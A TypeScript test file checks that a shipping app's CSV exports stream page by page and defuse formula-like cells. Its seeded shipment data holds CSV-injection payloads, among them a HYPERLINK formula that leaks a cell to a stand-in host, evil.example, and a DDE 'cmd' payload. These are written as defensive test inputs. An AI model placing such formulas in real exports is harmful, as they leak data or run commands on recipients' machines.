// Every CSV the app writes goes through one writer (app/.server/csv-file.ts): formula-like cells
// defused, a byte-order mark, CRLF, and rows streamed a keyset page at a time (issue 22, items 1
// and 6: a 20,000-shipment export took 9.5 s and built 4 MB in memory; names like "=2+5 Person"
// went into the admin's spreadsheet as formulas).
import { env, SELF } from "cloudflare:test";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { shipmentsCsv, SHIPMENT_CSV_HEADER } from "~/features/analytics/analytics-reports.server";
import { countingD1, type D1Counts } from "~/.server/bench-d1";
import { CSV_PAGE_ROWS } from "~/.server/csv-file";
import { getDb } from "~/.server/db";
import { createUser, signedInCookie } from "./fixtures";
import { BASE } from "./requests";

const SHIPMENTS = 20_000;
const DAY = 86_400_000;
/** Seven bound values a row: 14 rows a statement stay within D1's 100 bound parameters. */
const ROWS_PER_STATEMENT = 14;
const STATEMENTS_PER_BATCH = 100;

/** What a spreadsheet would read as a formula (csv-stringify's list: these and their full-width forms). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Names and cities an attacker may type, one set in every seven shipments; the rest are plain. */
const HOSTILE_ROWS: { sender: string; recipient: string; city: string }[] = [
  { sender: "@SUM(A1)", recipient: "=2+5 Person", city: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")' },
  { sender: "+1 555 0100 Sender", recipient: "-2+3 Recipient", city: "\tTabbed City" },
  { sender: "\rCarriage Return", recipient: 'Lee, "The Shipper"', city: "＝SUM(1,2)" },
  { sender: "=cmd|' /C calc'!A0", recipient: "@Recipient", city: "-Minus City" },
];

function rowFor(index: number) {
  const hostile = index % 7 < HOSTILE_ROWS.length ? HOSTILE_ROWS[index % 7]! : null;
  return {
    id: `csv-${index}`,
    trackingId: `CSV${String(index).padStart(9, "0")}X`,
    sender: hostile?.sender ?? `Sender ${index}`,
    recipient: hostile?.recipient ?? `Recipient ${index}`,
    city: hostile?.city ?? "Paris",
  };
}

/** 20,000 shipments over the last 360 days, in multi-row INSERTs batched a hundred statements at a time. */
async function insertShipments(now: number) {
  const statements: D1PreparedStatement[] = [];
  for (let first = 0; first < SHIPMENTS; first += ROWS_PER_STATEMENT) {
    const rows = Array.from({ length: Math.min(ROWS_PER_STATEMENT, SHIPMENTS - first) }, (_, offset) => rowFor(first + offset));
    const values = rows.map(() => "(?, ?, 'in_transit', ?, 'Lyon', 'FR', ?, ?, 'DE', 'express', 2.5, 'USD', 1250, 4000, ?, ?)").join(", ");
    const params = rows.flatMap((row, offset) => {
      const createdAt = now - DAY * 360 + Math.floor(((first + offset) * (DAY * 359)) / SHIPMENTS);
      return [row.id, row.trackingId, row.sender, row.recipient, row.city, createdAt, createdAt];
    });
    statements.push(
      env.DB.prepare(
        `INSERT INTO shipments (id, tracking_id, status, sender_name, sender_city, sender_country, recipient_name, recipient_city, recipient_country, service_type, weight_kg, currency, cost, declared_value, created_at, updated_at) VALUES ${values}`,
      ).bind(...params),
    );
  }
  for (let start = 0; start < statements.length; start += STATEMENTS_PER_BATCH) await env.DB.batch(statements.slice(start, start + STATEMENTS_PER_BATCH));
}

let adminCookie: string;
let inPeriod: number;

beforeAll(async () => {
  const now = Date.now();
  await insertShipments(now);
  const admin = await createUser({ role: "admin" });
  adminCookie = await signedInCookie(admin.id);
  inPeriod = (await env.DB.prepare("SELECT count(*) AS n FROM shipments WHERE created_at >= ?").bind(now - 365 * DAY).first<{ n: number }>())!.n;
}, 120_000);

/** Reads a stream to its end: each chunk's size, and when the first and the last came. */
async function readAll(body: ReadableStream<Uint8Array>, started: number) {
  const reader = body.getReader();
  const chunks: Uint8Array[] = [];
  let firstAt = 0;
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    if (chunks.length === 0) firstAt = Date.now() - started;
    chunks.push(value);
  }
  const bytes = new Uint8Array(chunks.reduce((size, chunk) => size + chunk.byteLength, 0));
  let offset = 0;
  for (const chunk of chunks) {
    bytes.set(chunk, offset);
    offset += chunk.byteLength;
  }
  return { bytes, chunks: chunks.map((chunk) => chunk.byteLength), firstAt, totalAt: Date.now() - started };
}

describe("the one-year shipments export of 20,000 shipments", () => {
  it("streams: the header leaves before any row is read, and each further page is read only when the reader asks", async () => {
    const counts: D1Counts = { queries: 0, writes: 0 };
    const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
    const started = Date.now();
    const file = shipmentsCsv({ db: getDb({ DB: countingD1(env.DB, counts) }) }, { period: "1y" });
    const reader = file.getReader();
    const first = await reader.read();
    // The mark and the header first, written before any query (the stream then reads the first page ahead).
    expect(decoder.decode(first.value)).toBe(`\uFEFF${SHIPMENT_CSV_HEADER.join(",")}\r\n`);
    expect(counts.queries).toBeLessThanOrEqual(1);
    const second = await reader.read();
    expect(decoder.decode(second.value).split("\r\n").filter(Boolean)).toHaveLength(CSV_PAGE_ROWS);
    // One page read ahead at most, however long the reader waits: memory holds a page or two, never the file.
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(counts.queries).toBeLessThanOrEqual(2);
    let pages = 1;
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) pages += 1;
    console.log(`20,000-shipment export, read from the service: ${pages} pages in ${Date.now() - started} ms`);
    expect(pages).toBe(Math.ceil(inPeriod / CSV_PAGE_ROWS));
    // A keyset page each: no query ever reads the pages before it again.
    expect(counts.queries).toBeLessThanOrEqual(pages + 1);
  });

  it("writes the status, service and region words in the reader's language, as the header is", async () => {
    const reader = shipmentsCsv({ db: getDb(env) }, { period: "1y", language: "es" }).getReader();
    const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
    await reader.read();
    const [row] = parse(decoder.decode((await reader.read()).value), { record_delimiter: "\r\n" }) as string[][];
    await reader.cancel();
    expect(row).toEqual(expect.arrayContaining(["En tránsito", "Exprés", "Europa"]));
    expect(row).not.toContain("In Transit");
  });

  it("answers as a stream, every formula-like cell defused, with a BOM, CRLF and one row per shipment", async () => {
    const started = Date.now();
    const response = await SELF.fetch(`${BASE}/admin/analytics/export?report=shipments&period=1y`, { headers: { Cookie: adminCookie } });
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toMatch(/^attachment; filename="swiftparcel-shipments-1y-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.body).toBeInstanceOf(ReadableStream);
    const { bytes, chunks, firstAt, totalAt } = await readAll(response.body!, started);
    console.log(`20,000-shipment export: first chunk after ${firstAt} ms (${chunks[0]} bytes), all ${bytes.byteLength} bytes in ${chunks.length} chunks after ${totalAt} ms`);
    // The first bytes left long before the whole file did, in many pieces.
    expect(chunks[0]!).toBeLessThan(bytes.byteLength / 100);
    expect(chunks.length).toBeGreaterThan(10);

    // A byte-order mark, then CRLF line ends only.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text.endsWith("\r\n")).toBe(true);
    const records: string[][] = parse(text, { bom: true, record_delimiter: "\r\n" });
    expect(records[0]).toEqual(SHIPMENT_CSV_HEADER);
    const rows = records.slice(1);
    expect(rows).toHaveLength(inPeriod);
    expect(rows.every((row) => row.length === SHIPMENT_CSV_HEADER.length)).toBe(true);

    // No cell a spreadsheet would run: each formula-like one is the typed text behind an apostrophe.
    const offending = rows.flatMap((row) => row.filter((cell) => FORMULA_START.test(cell)));
    expect(offending).toEqual([]);
    const column = (name: string) => SHIPMENT_CSV_HEADER.indexOf(name);
    const byTrackingId = new Map(rows.map((row) => [row[column("Tracking ID")]!, row]));
    let defused = 0;
    for (let index = 0; index < SHIPMENTS; index += 1) {
      const expected = rowFor(index);
      const row = byTrackingId.get(expected.trackingId);
      expect(row, expected.trackingId).toBeDefined();
      for (const [name, value] of [
        ["Sender", expected.sender],
        ["Recipient", expected.recipient],
        ["Destination city", expected.city],
      ] as const) {
        const shown = FORMULA_START.test(value) ? `'${value}` : value;
        if (shown !== value) defused += 1;
        expect(row![column(name)], `${expected.trackingId} ${name}`).toBe(shown);
      }
    }
    expect(defused).toBeGreaterThan(8_000);
  }, 120_000);
});

describe("every CSV export", () => {
  const EXPORTS = ["/admin/analytics/export?report=shipments&period=30d", "/admin/analytics/export?report=users&period=1y", "/admin/invoices.csv"];

  it("defuses every formula-like cell: names an account typed, and the shipments' names and cities", async () => {
    await createUser({ firstName: "=2+5", lastName: "@SUM(A1)", email: `formula-${crypto.randomUUID().slice(0, 8)}@example.com` });
    for (const path of EXPORTS) {
      const response = await SELF.fetch(`${BASE}${path}`, { headers: { Cookie: adminCookie } });
      expect(response.status, path).toBe(200);
      const text = await response.text();
      expect(text.startsWith("\uFEFF"), `${path}: a byte-order mark`).toBe(true);
      const rows: string[][] = parse(text, { bom: true, record_delimiter: "\r\n" });
      // The invoices list has no rows here (its formula-like names: invoices.test.ts); the header still counts.
      expect(rows.length, path).toBeGreaterThan(path.includes("invoices") ? 0 : 1);
      // A number the app computed may be negative; anything else starting like a formula is not allowed.
      const offending = rows.flat().filter((cell) => FORMULA_START.test(cell) && !/^-\d+(\.\d+)?%?$/.test(cell));
      expect(offending, path).toEqual([]);
    }
    const users = await (await SELF.fetch(`${BASE}/admin/analytics/export?report=users&period=1y`, { headers: { Cookie: adminCookie } })).text();
    // The account's name is one cell, "first last": defused as a whole.
    expect(users).toContain("'=2+5 @SUM(A1)");
  }, 120_000);

  it("answers hostile parameters below 500: unknown, repeated, huge and malformed", async () => {
    const hostile = [
      "?report=nonsense",
      "?report=shipments&report=users&period=1y&period=7d",
      `?report=shipments&period=${"9".repeat(5_000)}`,
      "?report=%E0%A4%A&period=%00",
      `?status=${"x".repeat(5_000)}&search=${encodeURIComponent("=HYPERLINK(1)".repeat(300))}`,
      "?dateFrom=2026-13-45&dateTo=not-a-date",
    ];
    for (const base of ["/admin/analytics/export", "/admin/invoices.csv"]) {
      for (const query of hostile) {
        const response = await SELF.fetch(`${BASE}${base}${query}`, { headers: { Cookie: adminCookie } });
        await response.arrayBuffer();
        expect(response.status, `${base}${query.slice(0, 60)}`).toBeLessThan(500);
      }
    }
  }, 120_000);
});
